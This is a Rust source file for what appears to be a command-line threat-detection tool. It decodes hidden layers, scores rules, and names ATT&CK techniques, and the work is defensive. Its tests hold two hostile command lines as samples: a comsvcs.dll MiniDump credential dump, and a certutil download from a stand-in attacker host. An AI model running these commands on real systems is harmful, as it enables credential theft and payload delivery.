//! The analyst's knowledge about one command line, without an alert.

use aside_shared::analysis::{Layer, Technique, Verdict};
use aside_shared::text::{Span, plain};
use serde::{Deserialize, Serialize};

use crate::command_line::first_word;
use crate::process::{self, Start};
use crate::rules::{Rule, RuleSet};
use crate::systems::systems;
use crate::taxonomy::Product;
use crate::{decode, score, techniques};

/// What is known about a command line.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub struct Explanation {
    /// How it comes out.
    pub verdict: Verdict,
    /// How sure that it is malicious, in percent, by rule weights.
    pub malicious_percent: u8,
    /// ATT&CK techniques that the rules which matched name, strongest first; where ATT&CK has given
    /// one another id, both.
    pub techniques: Vec<Technique>,
    /// What it hid, outermost first.
    pub layers: Vec<Layer>,
    /// Why, strongest first.
    pub reasons: Vec<Reason>,
}

/// A rule that matched.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub struct Reason {
    /// The rule's id.
    pub rule: String,
    /// The rule's title.
    pub title: String,
    /// Points before the cap; negative speaks for usual.
    pub points: i32,
    /// What was seen, as plain text that a terminal can print.
    pub sentence: String,
    /// The same with its names apart: they are untrusted.
    #[serde(skip)]
    pub spans: Vec<Span>,
}

/// What the rules know about `command_line`, run by `parent` (an image's path or name) where that is known.
pub fn explain(rules: &RuleSet, command_line: &str, parent: Option<&str>) -> Explanation {
    let layers = decode::layers(command_line);
    let systems = systems(command_line, parent);
    let start = Start {
        product: match systems[..] {
            [only] => Some(only),
            _ => None,
        },
        command_line: Some(command_line),
        ancestors: parent
            .into_iter()
            .map(|parent| first_word(parent).0)
            .collect(),
        typed: true,
        ..Start::default()
    };
    // A script is read as it stands and with its variables filled in; the latter hides nothing.
    let filled_in = decode::filled_in(command_line).map(|text| Layer {
        hidden_by: "variables-filled-in".to_owned(),
        text,
    });
    let read: Vec<Layer> = layers.iter().cloned().chain(filled_in).collect();
    let mut fired: Vec<(&Rule, Vec<Span>)> = Vec::new();
    for event in process::events(&start, &read) {
        for rule in rules.matching(&event) {
            if !fired.iter().any(|(known, _)| known.id == rule.id) {
                fired.push((rule, rule.knowledge.sentence.about(&event)));
            }
        }
    }
    outcome(likeliest(fired, &systems), layers)
}

/// A line that does not say for which system it is is read as of each; the reading for which the
/// most speaks counts.
fn likeliest<'a>(
    fired: Vec<(&'a Rule, Vec<Span>)>,
    systems: &[Product],
) -> Vec<(&'a Rule, Vec<Span>)> {
    let of = |product: Product| {
        let applies = move |rule: &Rule| rule.product.is_none_or(|own| own == product);
        let signals = fired
            .iter()
            .filter(|(rule, _)| applies(rule))
            .map(|(rule, _)| (rule.knowledge.group.clone(), score::bare(rule)))
            .collect::<Vec<_>>();
        (signals.len(), score::score(signals).total)
    };
    let best = systems.iter().copied().max_by_key(|product| {
        let (count, total) = of(*product);
        // The first of equals, as the systems are listed.
        (total, count, std::cmp::Reverse(*product))
    });
    fired
        .into_iter()
        .filter(|(rule, _)| rule.product.is_none() || rule.product == best)
        .collect()
}

fn outcome(mut fired: Vec<(&Rule, Vec<Span>)>, layers: Vec<Layer>) -> Explanation {
    fired.sort_by_key(|(rule, _)| std::cmp::Reverse(rule.knowledge.weight.abs()));
    let score = score::score(
        fired
            .iter()
            .map(|(rule, _)| (rule.knowledge.group.clone(), score::bare(rule)))
            .collect(),
    );
    let mut named: Vec<Technique> = Vec::new();
    for (rule, _) in fired.iter().filter(|(rule, _)| rule.knowledge.weight > 0) {
        for technique in &rule.knowledge.techniques {
            // Who compares ids may have either.
            for known in [
                Some(technique.clone()),
                techniques::successor(&technique.id),
            ] {
                if let Some(known) = known
                    && !named.contains(&known)
                {
                    named.push(known);
                }
            }
        }
    }
    Explanation {
        verdict: score::verdict(&score),
        malicious_percent: score::percent(score.total),
        techniques: named,
        layers,
        reasons: fired
            .into_iter()
            .map(|(rule, spans)| Reason {
                rule: rule.id.to_string(),
                title: rule.title.clone(),
                points: rule.knowledge.weight,
                sentence: plain(&spans),
                spans,
            })
            .collect(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn verdict(line: &str) -> Verdict {
        explain(RuleSet::built_in(), line, None).verdict
    }

    #[test]
    fn attacks_are_named_and_ordinary_work_is_not_called_malicious() {
        let dump = explain(
            RuleSet::built_in(),
            r"rundll32.exe C:\windows\System32\comsvcs.dll, MiniDump 624 C:\t\a.dmp full",
            None,
        );
        assert_eq!(dump.verdict, Verdict::Malicious);
        assert!(
            dump.techniques.iter().any(|it| it.id == "T1003.001"),
            "{:?}",
            dump.techniques
        );
        let wrapped = explain(
            RuleSet::built_in(),
            r#"cmd.exe /c "certutil.exe -urlcache -split -f http://evil.example/a.txt C:\Users\Public\a.txt""#,
            None,
        );
        assert!(
            wrapped.techniques.iter().any(|it| it.id == "T1105"),
            "{:?}",
            wrapped.techniques
        );
        for line in [
            r"C:\Windows\system32\svchost.exe -k netsvcs -p -s BITS",
            "git status",
            "apt-get update",
            r#""C:\Program Files\Microsoft VS Code\Code.exe" --type=renderer"#,
            r"powershell.exe -File C:\Scripts\inventory.ps1",
            "/usr/sbin/logrotate /etc/logrotate.conf",
        ] {
            assert_ne!(verdict(line), Verdict::Malicious, "{line}");
        }
        assert_eq!(verdict("frobnicate --gently"), Verdict::Unknown);
    }

    #[test]
    fn hostile_lines_are_answered_in_bounded_time() {
        for line in [
            "",
            "\"",
            "^^^^",
            &"a^".repeat(60_000),
            &"'+'".repeat(40_000),
            &"%a%".repeat(40_000),
            &"(((".repeat(40_000),
            &"$(".repeat(60_000),
        ] {
            let _explained = explain(RuleSet::built_in(), line, Some("\u{202e}\0"));
        }
    }
}
